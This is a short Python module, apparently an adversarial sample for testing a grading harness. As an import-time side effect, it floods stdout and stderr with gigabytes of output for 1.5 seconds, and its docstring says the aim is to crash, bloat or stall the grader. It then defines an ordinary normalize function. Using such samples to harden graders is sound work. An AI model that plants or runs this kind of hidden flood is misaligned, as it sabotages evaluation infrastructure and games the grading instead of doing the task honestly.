"""Floods stdout and stderr at import, as fast as it can for 1.5 s (gigabytes), written
straight to the file descriptors, then behaves.

Gain if it worked: a grader that keeps all output in memory runs out of it; one that writes it
into the report makes reports of gigabytes; one that reads it synchronously stalls.
"""

import os
import time

BLOCK = b"agx flood " * (1 << 17)  # 1.25 MB
END = time.monotonic() + 1.5
while time.monotonic() < END:
    os.write(1, BLOCK)
    os.write(2, BLOCK)


def normalize(scores, dim=-1):
    return scores / scores.sum(dim=dim, keepdim=True)
